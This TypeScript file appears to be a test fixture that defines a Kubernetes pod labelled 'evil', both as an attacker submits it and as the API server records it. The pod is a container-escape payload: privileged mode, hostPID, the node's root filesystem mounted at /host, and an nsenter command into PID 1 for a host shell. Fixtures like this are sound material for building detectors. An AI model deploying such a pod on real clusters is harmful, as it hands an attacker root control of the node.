import { leaves, managed, now, ownedLeaves } from './metadata';
import { admitted, containerDefaults, containerFields, tokenMount, tokenVolume } from './pods';

const host = { name: 'host', hostPath: { path: '/', type: '' } };
const hostMount = { name: 'host', mountPath: '/host' };

/** A container that enters the namespaces of the node. */
const escape = (mounts: object[]) => ({
  name: 'c',
  image: 'alpine',
  command: ['nsenter', '-t', '1', '-m', 'sh'],
  resources: {},
  volumeMounts: mounts,
  ...containerDefaults,
  imagePullPolicy: 'Always',
  securityContext: { privileged: true },
});

/** The pod that the attacker sends. */
export const privilegedPodSent = {
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name: 'evil', labels: { app: 'evil' } },
  spec: {
    volumes: [host],
    containers: [escape([hostMount])],
    restartPolicy: 'Always',
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    hostPID: true,
    securityContext: {},
    schedulerName: 'default-scheduler',
    enableServiceLinks: true,
  },
  status: {},
};

/** The pod that the API server returns. */
export const privilegedPodCreated = {
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: {
    name: 'evil',
    namespace: 'prod',
    uid: '3f0b9a57-2e6c-4d18-a1c4-7b85d2f6e094',
    resourceVersion: '705',
    generation: 1,
    creationTimestamp: now,
    labels: { app: 'evil' },
    managedFields: [
      managed('kubectl-client-side-apply', 'v1', now, {
        'f:metadata': { 'f:labels': ownedLeaves('app') },
        'f:spec': {
          'f:containers': {
            'k:{"name":"c"}': {
              ...containerFields,
              'f:command': {},
              'f:securityContext': ownedLeaves('privileged'),
              'f:volumeMounts': {
                '.': {},
                'k:{"mountPath":"/host"}': ownedLeaves('mountPath', 'name'),
              },
            },
          },
          ...leaves('dnsPolicy', 'enableServiceLinks', 'hostPID', 'restartPolicy'),
          ...leaves('schedulerName', 'securityContext', 'terminationGracePeriodSeconds'),
          'f:volumes': {
            '.': {},
            'k:{"name":"host"}': {
              '.': {},
              'f:hostPath': ownedLeaves('path', 'type'),
              'f:name': {},
            },
          },
        },
      }),
    ],
  },
  spec: {
    volumes: [host, tokenVolume],
    containers: [escape([hostMount, tokenMount])],
    restartPolicy: 'Always',
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    serviceAccountName: 'default',
    serviceAccount: 'default',
    hostPID: true,
    securityContext: {},
    ...admitted,
  },
  status: { phase: 'Pending', qosClass: 'BestEffort' },
};
